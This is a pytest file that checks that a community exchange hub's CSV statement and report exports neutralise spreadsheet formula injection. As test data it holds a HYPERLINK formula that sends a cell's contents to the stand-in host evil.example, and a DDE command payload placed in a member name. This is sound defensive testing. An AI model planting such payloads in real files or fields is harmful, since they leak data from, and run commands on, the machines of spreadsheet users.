"""Issue 10, finding 2: every CSV the hub writes goes through one writer that neutralises
formulas in text cells (OWASP) and keeps our own numbers numbers."""
import datetime as dt
from decimal import Decimal

import pytest

from app.web.csv import csv_text, neutralise
from models import Role
from tests.conftest import GraphQLClient, sign_in

TRANSFER = """mutation($input: TransferInput!) { transfer(input: $input) { transfer { id } errors { code message } } }"""
HOSTILE_MEMO = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'


@pytest.mark.parametrize("text", ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_looks_like_a_formula_is_quoted(text):
    assert neutralise(text) == "'" + text


def test_plain_text_and_our_numbers_are_left_alone():
    body = csv_text(["a", "b", "c", "d"], [["Plots", Decimal("-12.50"), -3, dt.date(2026, 1, 2)]])
    assert body.startswith("\ufeff")
    assert body.splitlines()[1] == "Plots;-12,50;-3;2026-01-02"
    # One format whatever the reader's language: the decimal comma a French spreadsheet reads.
    assert csv_text(["x"], [[Decimal("-0.5")]]).splitlines()[1] == "-0,50"
    # A dash alone ("none") runs nothing: it is written as it is, not as "'-".
    assert neutralise("-") == "-"


def _account_id(client: GraphQLClient) -> str:
    return client.data("{ viewer { account { id } } }")["viewer"]["account"]["id"]


def test_statements_neutralise_memos_and_names_for_the_payee_and_the_treasurer(app, make_member):
    payer_email = make_member(name="=cmd|' /C calc'!A0", organization="@Scierie", credit_limit=10_000)
    payee_email = make_member(name="Bob", organization="Charpentes Arve")
    treasurer_email = make_member(name="Trésorière", role=Role.TREASURER)
    payer = GraphQLClient(app.test_client()).login(payer_email)
    payee = GraphQLClient(app.test_client()).login(payee_email)
    payee_account = _account_id(payee)
    done = payer.data(TRANSFER, input={"toAccountId": payee_account, "amount": "12.50", "memo": HOSTILE_MEMO,
                                       "idempotencyKey": "k1"})["transfer"]
    assert done["errors"] == []

    received = payee.client.get("/account/statement.csv")
    assert received.headers["Cache-Control"] == "no-store"
    line = received.data.decode("utf-8-sig").splitlines()[1].split(";", 2)[2]
    assert line.startswith("\"'=HYPERLINK(") and ";'@Scierie;;12,50;12,50;" in line

    paid = payer.client.get("/account/statement.csv").data.decode("utf-8-sig").splitlines()[1]
    assert ";12,50;;-12,50;" in paid  # our negative balance stays a number

    treasurer = app.test_client()
    assert sign_in(treasurer, treasurer_email).status_code == 302
    export = treasurer.get(f"/accounts/{payee_account}/statement.csv").data.decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in export and "'@Scierie" in export
    assert ";=" not in export and ';"=' not in export and ";@" not in export


def test_the_impact_report_uses_the_same_writer(app, make_member):
    treasurer = app.test_client()
    assert sign_in(treasurer, make_member(name="Trésorière", role=Role.TREASURER)).status_code == 302
    response = treasurer.get("/treasury/impact.csv")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert response.data.decode("utf-8-sig").splitlines()[0] == "Début de période;Fin de période (exclue);Indicateur;Libellé;Valeur"
